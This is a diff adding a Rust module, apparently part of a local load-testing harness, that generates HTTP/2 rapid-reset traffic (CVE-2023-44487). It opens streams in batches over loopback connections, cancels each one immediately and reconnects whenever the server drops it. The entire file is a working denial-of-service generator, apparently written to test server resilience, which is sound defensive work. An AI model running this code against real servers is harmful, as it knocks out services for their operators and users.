@@ -1,0 +1,60 @@
+//! HTTP/2 streams that are opened and reset at once (rapid reset, CVE-2023-44487): work that nobody waits for.
+
+use std::net::Ipv4Addr;
+
+use h2::Reason;
+use h2::client::SendRequest;
+use http::Request;
+
+use super::{Target, pace, start};
+use crate::Result;
+use crate::honest::connect;
+
+/// Hyper ends a connection that resets too many streams before it has looked at them; they come back with another.
+pub async fn resets(target: Target, a_second: u64) {
+    for lane in 0..LANES {
+        let target = target.clone();
+        start(async move {
+            let from = Ipv4Addr::new(127, 68, 0, lane as u8 + 1);
+            let mut pace = pace(a_second as f64 / (LANES * BATCH) as f64);
+            let mut connection = None;
+            loop {
+                pace.tick().await;
+                if burst(&mut connection, from, &target).await.is_err() {
+                    target.tally.cut();
+                    connection = None;
+                }
+            }
+        });
+    }
+}
+
+async fn burst(connection: &mut Option<SendRequest<bytes::Bytes>>, from: Ipv4Addr, target: &Target) -> Result<()> {
+    let ready = match connection.take() {
+        Some(ready) => ready,
+        None => {
+            let (ready, work) = h2::client::handshake(connect(from, target.server).await?).await?;
+            start(async move { drop(work.await) });
+            ready
+        }
+    };
+    let mut ready = ready.ready().await?;
+    for i in 0..BATCH {
+        // Half of them are reset while they wait for a turn.
+        let path = if i % 2 == 0 { "api" } else { "turn" };
+        let request = Request::get(format!("http://resets/{path}")).header("x-api-key", "resets").body(())?;
+        let (_response, mut stream) = ready.send_request(request, true)?;
+        target.tally.sent(1);
+        if i % 4 > 1 {
+            // So that the request is on its way before it is taken back.
+            tokio::task::yield_now().await;
+        }
+        stream.send_reset(Reason::CANCEL);
+        ready = ready.ready().await?;
+    }
+    *connection = Some(ready);
+    Ok(())
+}
+
+const LANES: u64 = 2;
+const BATCH: u64 = 10;
